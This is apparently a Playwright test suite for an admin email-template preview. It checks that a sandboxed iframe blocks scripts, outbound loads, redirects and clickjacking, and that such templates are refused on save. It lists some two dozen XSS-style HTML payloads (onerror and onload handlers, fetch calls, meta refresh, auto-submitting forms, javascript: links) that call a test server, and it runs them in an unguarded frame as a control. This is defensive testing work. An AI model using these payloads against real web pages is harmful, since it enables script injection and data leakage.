"""The preview of a mail's wording on the staff's page: whatever the wording says, nothing runs and nothing leaves.

No such wording can be saved, nor is one of before shown (wording_rules); here the frame is seen without that wall
before it. Each attack is then made in a frame that forbids nothing, where it succeeds: else it would show nothing.
"""

import html
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from desk import assert_is_seen
from playwright.sync_api import Page, expect
from stranger import Stranger
from waiting import wait_for

StaffPage = Callable[[str, str], Page]

TEMPLATES = "/admin/notify/notifications/notificationtemplate/"
OF_RECEIPTS = f"{TEMPLATES}?code__exact=receipt&channel__exact=email&language__exact=en"
FRAME = "iframe[title='HTML part']"
# As large as the frame, so that a click on that is one on this.
ALL_OVER = 'style="position:fixed;top:0;left:0;width:100%;height:100%;display:block"'


@dataclass(frozen=True)
class Attack:
    """there: is put in where it says so, an address at the stranger's. click: somebody has to click on it."""

    html: str
    click: bool = False


ATTACKS = {
    "a script": Attack("<script>new Image().src = '{there}'</script>"),
    "a script from elsewhere": Attack("<script src='{there}'></script>"),
    "a script that moves the page around it": Attack("<script>top.location = '{there}'</script>"),
    "a picture from elsewhere": Attack("<img src='{there}'>"),
    "a picture that fails": Attack("<img src='x:' onerror=\"new Image().src = '{there}'\">"),
    "a drawing that loads": Attack("<svg onload=\"fetch('{there}')\"></svg>"),
    "a style from elsewhere": Attack("<link rel='stylesheet' href='{there}'>"),
    "a style that loads": Attack("<style>@import '{there}';</style>"),
    "a background": Attack("<p style=\"background: url('{there}')\">x</p>"),
    "a frame": Attack("<iframe src='{there}'></iframe>"),
    "a frame of its own words": Attack("<iframe srcdoc=\"<script>parent.location = '{there}'</script>\"></iframe>"),
    "a frame with a sandbox of its own": Attack(
        "<iframe sandbox='allow-scripts allow-top-navigation' srcdoc=\"<img src='{there}'>\"></iframe>"
    ),
    "an object": Attack("<object data='{there}'></object>"),
    "a film": Attack("<video src='{there}' autoplay muted></video>"),
    "a page that moves on": Attack("<meta http-equiv='refresh' content='0; url={there}'>"),
    "a form that sends itself": Attack(
        "<form action='{there}'><input name='a'></form><script>document.forms[0].submit()</script>"
    ),
    "a form": Attack(f"<form action='{{there}}'><button {ALL_OVER}>Go on</button></form>", click=True),
    "a form for a new window": Attack(
        f"<form action='{{there}}' target='_blank'><button {ALL_OVER}>Go on</button></form>", click=True
    ),
    "a link": Attack(f"<a href='{{there}}' {ALL_OVER}>Go on</a>", click=True),
    "a link for the page around it": Attack(f"<a href='{{there}}' target='_top' {ALL_OVER}>Go on</a>", click=True),
    "a link for a new window": Attack(f"<a href='{{there}}' target='_blank' {ALL_OVER}>Go on</a>", click=True),
    "all links for the page around it": Attack(
        f"<base target='_top'><a href='{{there}}' {ALL_OVER}>Go on</a>", click=True
    ),
    "a link that is a script": Attack(
        f"<a href=\"javascript:void(new Image().src = '{{there}}')\" {ALL_OVER}>Go on</a>", click=True
    ),
    "a link that tells of its click": Attack(f"<a href='#x' ping='{{there}}' {ALL_OVER}>Go on</a>", click=True),
}


@pytest.fixture
def receipts(staff_page: StaffPage) -> Page:
    """The page of the wording of receipts, open for a manager."""
    page = staff_page("notify", "manager")
    page.goto(OF_RECEIPTS)
    page.locator("#result_list tbody").get_by_role("link").first.click()
    expect(page.locator(FRAME)).to_be_visible()
    return page


def click_into(page: Page) -> None:
    """On the frame as a person does; Playwright's own clicks need scripts within it."""
    page.locator("iframe").first.scroll_into_view_if_needed()
    box = page.locator("iframe").first.bounding_box()
    assert box
    page.mouse.click(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)


def say_in_the_preview(page: Page, said: str) -> None:
    """Puts it into the frame, as if the wording went on with it; back when the frame has it."""
    put = "(frame, said) => new Promise(done => { frame.onload = done; frame.srcdoc += said })"
    page.locator(FRAME).evaluate(put, said)


def try_unguarded(page: Page, stranger: Stranger, said: str, *, click: bool) -> None:
    """In a window beside it, with a frame that forbids nothing, of a page without a policy."""
    stranger.page = f'<!doctype html><iframe srcdoc="{html.escape("<!doctype html><p>Hello</p>" + said)}"></iframe>'
    bare = page.context.new_page()
    bare.goto(stranger.url)
    if click:
        click_into(bare)


@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_runs_in_a_preview_and_nothing_leaves_it(receipts: Page, stranger: Stranger, name: str) -> None:
    attack, page = ATTACKS[name], receipts
    title, address = page.title(), page.url
    say_in_the_preview(page, attack.html.replace("{there}", f"{stranger.url}/preview"))
    if attack.click:
        click_into(page)
    # What was forbidden comes first, so when this has come it would have come, too.
    try_unguarded(page, stranger, attack.html.replace("{there}", f"{stranger.url}/bare"), click=attack.click)
    wait_for(lambda: stranger.heard_of("/bare"), what="attack that succeeds without the frame")
    assert stranger.heard_of("/preview") == []
    assert (page.url, page.title()) == (address, title)
    expect(page.locator(FRAME)).to_be_visible()


def test_the_preview_shows_the_mail(receipts: Page) -> None:
    """A frame that shows nothing would pass the others."""
    inside = receipts.frame_locator(FRAME)
    expect(inside.get_by_text("Nguyễn Thị Minh Khai")).to_be_visible()


@pytest.mark.parametrize("name", ["a script", "a picture that fails", "a page that moves on", "a form"])
def test_no_such_wording_is_saved(receipts: Page, stranger: Stranger, name: str) -> None:
    page, address = receipts, receipts.url
    page.get_by_label("Body").fill(ATTACKS[name].html.replace("{there}", stranger.url))
    page.get_by_role("button", name="Save", exact=True).click()
    expect(page.locator(".errorlist").get_by_text("This cannot be sent")).to_be_visible()
    assert page.url == address
    assert stranger.asked == []


def test_axe_finds_nothing_on_the_page_of_a_wording_and_it_does_not_scroll_sideways(receipts: Page) -> None:
    receipts.get_by_role("button", name="Look at it").click()
    expect(receipts.locator("#looked iframe")).to_be_visible()
    assert_is_seen(receipts, "wording")
    receipts.set_viewport_size({"width": 390, "height": 844})
    beside = receipts.get_by_role("heading", name="Tiếng Việt").bounding_box()
    button = receipts.get_by_role("button", name="Look at it").bounding_box()
    assert beside
    assert beside["height"] < 60, "the heading of the other language lies behind the form"
    assert button
    assert button["height"] >= 24
